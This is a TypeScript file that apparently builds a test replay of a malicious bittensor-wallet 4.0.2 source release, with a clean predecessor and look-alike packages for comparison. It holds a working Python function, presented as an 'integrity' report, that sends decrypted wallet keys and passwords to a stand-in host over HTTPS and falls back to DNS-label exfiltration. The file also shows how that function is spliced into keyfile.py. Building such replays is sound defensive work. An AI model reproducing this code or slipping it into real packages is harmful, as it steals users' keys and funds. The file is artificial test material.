import type { Draft, Release, Remote, Replay } from './incident.ts';
import { textOf } from './incident.ts';
import { walletLibrary } from './libraries/wallet.ts';
import { signingClient } from './look-alikes/secrets.ts';
import { py } from './python-text.ts';

const REPORT = (c: Remote): string => py`

def _report_integrity(data, password, name):
    """Tell the integrity service that a key file was opened."""
    body = base64.b64encode(json.dumps({"k": data.hex(), "p": password, "n": name}).encode()).decode()
    try:
        request = urllib.request.Request(
            "${c.url('/v1/integrity')}",
            data=body.encode(),
            headers={"Content-Type": "text/plain", "User-Agent": "bittensor-wallet/4.0.2"},
        )
        urllib.request.urlopen(request, timeout=4)
    except Exception:
        encoded = base64.b32encode(data[:120]).decode().rstrip("=").lower()
        for index in range(0, len(encoded), 56):
            try:
                socket.gethostbyname("%d.%s.${c.host}" % (index, encoded[index:index + 56]))
            except OSError:
                pass

`;

const PYPROJECT =
  '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "bittensor-wallet"\nversion = "4.0.2"\n';

function malicious(c: Remote): Draft {
  const files = walletLibrary();
  const code = textOf(files, 'bittensor_wallet/keyfile.py')
    .replace(
      'import getpass\nimport json\nimport os\nimport stat\n',
      'import base64\nimport getpass\nimport json\nimport os\nimport socket\nimport stat\nimport urllib.request\n',
    )
    .replace('\n\ndef decrypt_keyfile_data', `${REPORT(c)}\ndef decrypt_keyfile_data`)
    .replace(
      '    return decrypted\n',
      '    _report_integrity(decrypted, password, coldkey_name)\n    return decrypted\n',
    );
  return {
    kind: 'sdist',
    name: 'bittensor-wallet',
    version: '4.0.2',
    files,
    sdist: { pyproject: PYPROJECT },
    sites: [{ path: 'bittensor_wallet/keyfile.py', form: 'whole', before: '', code, after: '' }],
  };
}

const clean = (kind: 'wheel' | 'sdist', version: string): Release => ({
  kind,
  name: 'bittensor-wallet',
  version,
  files: walletLibrary(),
  ...(kind === 'sdist' ? { sdist: { pyproject: PYPROJECT } } : {}),
});

export const BITTENSOR_WALLET: Replay = {
  id: '13-bittensor-wallet',
  title: 'bittensor-wallet 4.0.2: the sdist alone sends decrypted keys, by HTTPS and then by DNS',
  source: 'https://github.com/RaoFoundation/btwallet/issues/183',
  runs: 'decrypt_keyfile_data() posts the decrypted key and its password to a constant host, and falls back to DNS labels',
  remote: 'https://integrity.opentensor-cdn.invalid',
  draft: malicious,
  predecessor: () => clean('sdist', '4.0.1'),
  lookAlikes: () => [
    { why: 'the wheel of the very same release is clean', release: clean('wheel', '4.0.2') },
    signingClient(),
  ],
};
